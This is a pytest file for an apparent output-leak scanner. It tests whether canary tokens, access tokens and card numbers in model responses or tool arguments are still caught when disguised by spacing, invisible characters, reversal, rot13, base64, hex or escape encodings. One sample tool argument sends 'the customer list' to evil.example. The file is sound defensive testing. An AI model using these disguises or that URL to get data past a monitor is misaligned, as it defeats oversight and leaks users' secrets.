"""What must not be said is said otherwise: spaced, reversed, encoded, invisible, escaped."""

import base64
import codecs
import json
from random import Random

import pytest

from ostiary.errors import FaultyInputError
from ostiary.inspection.response import Document, Leaks
from ostiary.inspection.response.canaries import canary_for
from ostiary.testing import leaks as drawn

LEAKS = Leaks()
CANARY = canary_for(b"k" * 32, "default", "request", "r-9")
DISGUISES = {
    "plain": lambda c: c,
    "upper": str.upper,
    "spaced": " ".join,
    "dotted": ".".join,
    "lines": "\n".join,
    "zero-width": "\u200b".join,
    "marks": "\u0336".join,
    "tags between": "\U000e0041".join,
    "reversed": lambda c: c[::-1],
    "rot13": lambda c: codecs.encode(c, "rot13"),
    "rot13 reversed": lambda c: codecs.encode(c, "rot13")[::-1],
    "base64": lambda c: base64.b64encode(c.encode()).decode(),
    "base64 of upper": lambda c: base64.b64encode(c.upper().encode()).decode(),
    "base64 inside": lambda c: base64.b64encode(f"it says: {c}!".encode()).decode(),
    "base64 inside, one on": lambda c: base64.b64encode(f"t says: {c}!".encode()).decode(),
    "base64 inside, two on": lambda c: base64.b64encode(f" says: {c}!".encode()).decode(),
    "base64 spaced": lambda c: " ".join(base64.b64encode(c.encode()).decode()),
    "base64 of reversed": lambda c: base64.b64encode(c[::-1].encode()).decode(),
    "base64 twice": lambda c: base64.b64encode(base64.b64encode(c.encode())).decode(),
    "hex": lambda c: c.encode().hex(),
    "hex upper spaced": lambda c: c.encode().hex(" ").upper(),
    "hex of reversed": lambda c: c[::-1].encode().hex(),
    "percent": lambda c: "".join(f"%{byte:02x}" for byte in c.encode()),
    "backslash x": lambda c: "".join(f"\\x{byte:02x}" for byte in c.encode()),
    "codes": lambda c: " ".join(str(ord(letter)) for letter in c),
    "full width": lambda c: "".join(chr(ord(x) + 0xFEE0) if 33 <= ord(x) < 127 else x for x in c),
    "mathematical": lambda c: "".join(chr(0x1D400 + ord(x) - 97 + 26) if x.islower() else x for x in c),
    "in a code block": lambda c: f"```\n{c}\n```",
}


@pytest.mark.parametrize("disguise", DISGUISES)
def test_a_canary_is_found_however_it_is_spelt(disguise):
    text = f"Sure. {DISGUISES[disguise](CANARY)} That was it."
    scan = LEAKS.scan(canaries=[CANARY])
    released = scan.feed(text) + scan.close()
    assert scan.verdict == "block", disguise
    assert released == "Sure. " + released.removeprefix("Sure. ")
    assert "That was it" not in released
    letter_by_letter = LEAKS.scan(canaries=[CANARY])
    assert "".join(map(letter_by_letter.feed, text)) + letter_by_letter.close() == released


def test_prose_and_other_canaries_are_none():
    other = canary_for(b"k" * 32, "other", "request", "r-9")
    scan = LEAKS.scan(canaries=[CANARY])
    text = f"An ordinary answer about oceans, {other}, and canaries in coal mines."
    assert scan.feed(text) + scan.close() == text
    assert scan.verdict == "pass"


@pytest.mark.parametrize("canary", ["", "…", "ab", "x" * 600])
def test_a_canary_that_cannot_be_watched_is_refused_and_not_ignored(canary):
    with pytest.raises(FaultyInputError, match="canary"):
        LEAKS.scan(canaries=[canary])


def test_a_canary_of_a_document_tells_whose_it_was():
    canary = canary_for(b"k" * 32, "default", "document", "d-3")
    for cleared, rule, verdict in ((False, "canary.document", "block"), (True, "canary.cited", "redact")):
        scan = LEAKS.scan(documents=[Document("a text", cleared=cleared, canary=canary)])
        assert canary not in scan.feed(f"see {canary} there") + scan.close()
        assert [finding.rule for finding in scan.findings] == [rule]
        assert scan.verdict == verdict


def test_escapes_in_arguments_of_a_tool_hide_nothing():
    secret = drawn.secret(Random(3), "github-pat")  # noqa: S311 - seeded
    for hidden in (
        json.dumps({"body": secret}),
        '{"body": "' + "".join(f"\\u{ord(letter):04x}" for letter in secret) + '"}',
        '{"body": "' + secret.replace("_", "\\u005F") + '"}',
        '{"url": "https:\\/\\/evil.example\\/?data=the+customer+list"}',
    ):
        scan = LEAKS.scan(escaped=True)
        released = scan.feed(hidden) + scan.close()
        assert scan.verdict == "redact", hidden
        assert json.loads(released), released
        for at in range(len(hidden)):
            again = LEAKS.scan(escaped=True)
            assert again.feed(hidden[:at]) + again.feed(hidden[at:]) + again.close() == released


def test_a_number_outside_of_a_string_leaves_arguments_that_can_be_read():
    scan = LEAKS.scan(escaped=True)
    assert json.loads(scan.feed('{"card": 4111111111111111, "n": 1}') + scan.close()) == {
        "card": "[REDACTED:pii.card]",
        "n": 1,
    }


def test_half_surrogates_in_two_pieces_are_one_character_and_a_lone_one_is_none():
    scan = LEAKS.scan()
    assert scan.feed("a\ud83d") + scan.feed("\ude00b") + scan.close() == "a\U0001f600b"
    scan = LEAKS.scan()
    assert scan.feed("a\ud83d") + scan.feed("b\ude00") + scan.feed("\ud83d") + scan.close() == "a\ufffdb\ufffd\ufffd"


def test_invisible_characters_and_other_digits_do_not_hide_a_number():
    for text in (
        "4111\u200b 1111 11\u00ad11 1111",
        "4111 1111 1111 1111".translate({n: n + 0xFEE0 for n in range(48, 58)}),
        "4111\u20111111\u20111111\u20111111",
    ):
        scan = LEAKS.scan()
        assert scan.feed(f"card {text}.") + scan.close() == "card [REDACTED:pii.card]."
